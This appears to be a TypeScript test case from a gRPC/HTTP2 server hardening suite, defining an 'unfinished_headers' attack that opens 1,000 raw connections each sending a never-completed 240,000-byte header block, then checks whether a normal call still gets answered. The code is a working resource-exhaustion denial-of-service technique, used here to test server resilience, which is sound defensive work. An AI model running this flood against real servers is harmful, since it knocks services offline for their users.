import { Buffer } from "node:buffer";
import { checkCall, HeardConnection } from "../grpc_calls.ts";
import type { HostileCase } from "../hostile_case.ts";
import { RawConnections } from "../raw_connections.ts";
import { frame, openHttp2 } from "../raw_http2.ts";

const CONNECTIONS = 1_000;
const PART = Buffer.alloc(16_000, 0x82);
const PARTS = 15;
const ANSWER_MS = 10_000;
/** A block of 240,000 bytes, less than what ends a connection, whose end does not come. */
const BLOCK = Buffer.concat([
  frame({ type: 1, stream: 1 }, PART),
  ...Array.from({ length: PARTS - 1 }, () => frame({ type: 9, stream: 1 }, PART)),
]);

export const hostileCase: HostileCase = {
  name: "unfinished_headers",
  about: "large header blocks on many connections, of which the end does not come",
  engines: ["native", "grpc-js"],
  // So many connections leave 50 MiB behind on the general engine whatever they send.
  bounds: { keptMiB: 128 },
  attack: async (victim, signal) => {
    const connections = new RawConnections();
    for (let at = 0; at < CONNECTIONS && !signal.aborted; at++) {
      const connection = await openHttp2(connections, victim.grpcPort);
      await connection?.send(BLOCK);
    }
    const other = await HeardConnection.open(connections, victim.grpcPort);
    await other.raw.send(checkCall(1));
    const isAnswered = await other.answered(1, ANSWER_MS, signal);
    connections.closeAll();
    return connections.effort({ faults: isAnswered ? [] : ["a call beside them has no answer"] });
  },
};
